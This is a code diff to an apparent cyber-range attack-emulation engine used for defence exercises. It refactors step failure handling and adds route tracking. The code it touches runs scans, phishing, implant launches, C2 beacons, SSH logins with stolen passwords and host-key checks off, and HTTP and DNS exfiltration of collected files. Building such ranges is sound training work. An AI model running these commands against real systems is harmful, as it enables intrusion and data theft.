@@ -3,8 +3,9 @@
 Every step acts through the range backend's interface (exec, write a file), never from the
 machine itself: scans and DNS tunnelling are crafted with scapy inside the PC or attacker host,
 mail goes out through swaks on the attacker's mail server, the implant runs as the staff member.
-A step that cannot get through (a blocked address, a changed password, a killed implant) reports
-itself blocked with the reason, which the engine records and reacts to.
+A step that does not get through reports that it failed, with what answered; each kind also says
+which way it takes through the organisation (`route`), so the engine can tell a defence on that
+way (blocked) from a fault of the range (retried, then recorded as a fault).
 """
 
 from __future__ import annotations
@@ -20,6 +21,7 @@ from typing import Any, Awaitable, Callable
 
 from ..backend.base import ExecResult, RangeBackend
 from ..model.range import Host
+from .defence import Explanation, RangeView, Route
 from .variant import Variant, implant_bytes
 
 
@@ -30,6 +32,8 @@ class Outcome:
     executed: bool
     reason: str = ""
     details: dict[str, Any] = field(default_factory=dict)
+    explanation: Explanation | None = None
+    """Set when the failure is itself the defence (an isolated host, a locked account)."""
 
 
 @dataclass
@@ -42,6 +46,12 @@ class StepContext:
     speed: float
     facts: dict[str, Any] = field(default_factory=dict)
     sleep: Callable[[float], Awaitable[None]] = asyncio.sleep
+    view: RangeView = None  # type: ignore[assignment]  # made from the others when not given
+
+    def __post_init__(self) -> None:
+        if self.view is None:
+            self.view = RangeView(self.backend, self.team, self.variant.range,
+                                  infrastructure=self.variant.infrastructure)
 
     async def run(self, host: str, command: str | list[str], user: str = "root", timeout: float = 60) -> ExecResult:
         """Run a command in a range host without blocking the event loop."""
@@ -78,8 +88,17 @@ class StepContext:
         """Shell prefix that gives a command the organisation's proxy settings, as staff sessions have."""
         return "[ -f /etc/profile.d/proxy.sh ] && . /etc/profile.d/proxy.sh; "
 
+    def addresses(self, *names: str) -> tuple[str, ...]:
+        """Every address of the named hosts (or infrastructure names), for a route."""
+        return self.view.addresses(*names)
 
-def _blocked_unless(result: ExecResult, what: str) -> Outcome:
+    def implant_route(self, host: str) -> Route:
+        """The implant on a host, as a need of a route (nothing when none was dropped there)."""
+        implant = self.implant_on(host)
+        return Route(implant=(host, implant[0], implant[1])) if implant else Route()
+
+
+def _failed_unless(result: ExecResult, what: str) -> Outcome:
     if result.ok:
         return Outcome(True)
     reason = (result.stderr.strip() or result.stdout.strip() or f"exit {result.exit_code}").splitlines()[-1]
@@ -97,6 +116,10 @@ class StepKind:
     async def run(self, ctx: StepContext) -> Outcome:
         """Carry out the action against the live range."""
         raise NotImplementedError
+
+    def route(self, ctx: StepContext) -> Route:
+        """The way the step takes through the organisation (what a defence could have changed)."""
+        return Route()
 
 
 class Scan(StepKind):
@@ -121,10 +144,14 @@ class Scan(StepKind):
             "        print(sent[IP].dst, sent[TCP].dport)\n")
         result = await ctx.run(a.source, ["python3", "-c", script], timeout=60)
         if not result.ok:
-            return _blocked_unless(result, "scan could not run")
+            return _failed_unless(result, "scan could not run")
         open_ports = [line.split() for line in result.stdout.splitlines() if line.strip()]
         return Outcome(True, details={"open": [f"{ip}:{port}" for ip, port in open_ports],
                                       "probes": len(targets) * len(a.ports)})
+
+    def route(self, ctx: StepContext) -> Route:
+        a = self.action
+        return Route(hosts=(a.source,), addresses=ctx.addresses(a.source, *a.targets))
 
 
 class Phishing(StepKind):
@@ -149,11 +176,16 @@ class Phishing(StepKind):
         command = ["swaks", "--server", ctx.address(gateway), "--from", a.sender, "--to", recipient,
                    "--data", "@/tmp/cyder-mail/message.eml", "--timeout", "15"]
         result = await ctx.run(a.source, command, timeout=40)
-        outcome = _blocked_unless(result, f"mail to {recipient} not accepted")
+        outcome = _failed_unless(result, f"mail to {recipient} not accepted")
         if outcome.executed:
             queued = [line for line in result.stdout.splitlines() if "queued as" in line]
             outcome.details = {"recipient": recipient, "gateway": gateway, "queue": queued[-1].strip() if queued else ""}
         return outcome
+
+    def route(self, ctx: StepContext) -> Route:
+        a = self.action
+        gateway = _mx_host(ctx.variant.range)
+        return Route(hosts=(gateway,), addresses=ctx.addresses(a.source, gateway))
 
 
 def _mx_host(rng) -> str:
@@ -199,7 +231,7 @@ class UserExecution(StepKind):
                  f"su -s /bin/sh {user} -c {shlex.quote(f'cd ~ && setsid nohup {command} >/dev/null 2>&1 < /dev/null &')}")
         result = await ctx.run(pc, setup)
         if not result.ok:
-            return _blocked_unless(result, "implant did not start")
+            return _failed_unless(result, "implant did not start")
         check = await ctx.run(pc, ["pgrep", "-u", user, "-f", f"{implant} resident"])
         if not check.ok:
             return Outcome(False, "implant process is not running")
@@ -240,13 +272,16 @@ class Beacon(StepKind):
         user, path = implant
         command = self.check_in(ctx, path)
         for number in range(1, a.count + 1):
-            result = await ctx.run(a.host, command, user=user, timeout=20)
+            result = await ctx.run(a.host, command, user=user, timeout=30)
             if not result.ok:
                 return Outcome(False, f"{self.label} {number} failed: {(result.stderr.strip() or 'no answer')[-200:]}",
                                {"check_ins": number - 1})
             if number < a.count:
                 await ctx.sleep(a.interval / ctx.speed)
         return Outcome(True, details={"check_ins": a.count})
+
+    def route(self, ctx: StepContext) -> Route:
+        return ctx.implant_route(self.action.host)
 
 
 class HttpBeacon(Beacon):
@@ -257,6 +292,9 @@ class HttpBeacon(Beacon):
     def check_in(self, ctx: StepContext, path: str) -> str:
         return ctx.proxy_env() + f"python3 {shlex.quote(path)} beacon-http {shlex.quote(self.action.url)}"
 
+    def route(self, ctx: StepContext) -> Route:
+        return super().route(ctx).merged(ctx.view.proxy_route(self.action.host, self.action.url))
+
 
 class DnsBeacon(Beacon):
     """Check-ins with the C2 over DNS: names under the C2 domain, resolved through the city's DNS."""
@@ -266,8 +304,10 @@ class DnsBeacon(Beacon):
 
     def check_in(self, ctx: StepContext, path: str) -> list[str]:
         domain = self.action.domain
-        expected = next((i["address"] for i in ctx.variant.infrastructure if domain in i["names"]), "")
-        return ["python3", path, "beacon-dns", domain, expected]
+        return ["python3", path, "beacon-dns", domain, ctx.view.infrastructure_address(domain)]
+
+    def route(self, ctx: StepContext) -> Route:
+        return super().route(ctx).merged(ctx.view.resolver_route(self.action.host, self.action.domain))
 
 
 class SshGuess(StepKind):
@@ -292,6 +332,10 @@ class SshGuess(StepKind):
         return Outcome(True, details={"attempts": len(results) - len(unreachable),
                                       "guessed": any(r.ok for r in results)})
 
+    def route(self, ctx: StepContext) -> Route:
+        a = self.action
+        return Route(hosts=(a.source, a.target), addresses=ctx.addresses(a.source, a.target))
+
 
 class SshLogin(StepKind):
     """An SSH login with a stolen credential that runs a command."""
@@ -304,10 +348,15 @@ class SshLogin(StepKind):
         result = await ctx.run(a.source, ["sshpass", "-p", a.password, "ssh", "-o", "StrictHostKeyChecking=no",
                                           "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
                                           "-o", "PubkeyAuthentication=no", f"{a.user}@{target}", a.command], timeout=30)
-        outcome = _blocked_unless(result, f"login as {a.user} on {a.target} refused")
+        outcome = _failed_unless(result, f"login as {a.user} on {a.target} refused")
         if outcome.executed:
             outcome.details = {"output": result.stdout.strip()[:200]}
         return outcome
+
+    def route(self, ctx: StepContext) -> Route:
+        a = self.action
+        return Route(hosts=(a.source, a.target), addresses=ctx.addresses(a.source, a.target),
+                     accounts=((a.target, a.user),))
 
 
 class Collect(StepKind):
@@ -332,6 +381,11 @@ class Collect(StepKind):
         ctx.facts.setdefault("loot", {})[a.host] = [f"{loot}/{name}" for name in a.files]
         return Outcome(True, details={"files": [f"{loot}/{name}" for name in a.files]})
 
+    def route(self, ctx: StepContext) -> Route:
+        a = self.action
+        return ctx.implant_route(a.host).merged(Route(hosts=(a.host, a.server), addresses=ctx.addresses(a.host, a.server),
+                                                      accounts=((a.server, a.user),)))
+
 
 class HttpExfil(StepKind):
     """The collected files POSTed to the C2 through the proxy."""
@@ -347,10 +401,13 @@ class HttpExfil(StepKind):
         files = " ".join(shlex.quote(p) for p in loot)
         result = await ctx.run(a.host, ctx.proxy_env() + f"python3 {shlex.quote(path)} exfil-http {shlex.quote(a.url)} {files}",
                                user=user, timeout=60)
-        outcome = _blocked_unless(result, "upload failed")
+        outcome = _failed_unless(result, "upload failed")
         if outcome.executed:
             outcome.details = {"files": loot}
         return outcome
+
+    def route(self, ctx: StepContext) -> Route:
+        return ctx.implant_route(self.action.host).merged(ctx.view.proxy_route(self.action.host, self.action.url))
 
 
 class DnsExfil(StepKind):
@@ -378,10 +435,13 @@ class DnsExfil(StepKind):
             "        sent += 1\n"
             "print(sent)\n")
         result = await ctx.run(a.host, ["python3", "-c", script], timeout=120)
-        outcome = _blocked_unless(result, "DNS tunnel failed")
+        outcome = _failed_unless(result, "DNS tunnel failed")
         if outcome.executed:
             outcome.details = {"queries": int(result.stdout.strip() or 0)}
         return outcome
+
+    def route(self, ctx: StepContext) -> Route:
+        return ctx.view.resolver_route(self.action.host, self.action.domain)
 
 
 class WebAttack(StepKind):
@@ -409,6 +469,10 @@ class WebAttack(StepKind):
                 return Outcome(False, f"web server {a.target} unreachable")
             codes.append(result.stdout.strip())
         return Outcome(True, details={"responses": codes})
+
+    def route(self, ctx: StepContext) -> Route:
+        a = self.action
+        return Route(hosts=(a.target,), addresses=ctx.addresses(a.source, a.target))
 
 
 STEP_KINDS: dict[str, type[StepKind]] = {cls.kind: cls for cls in (
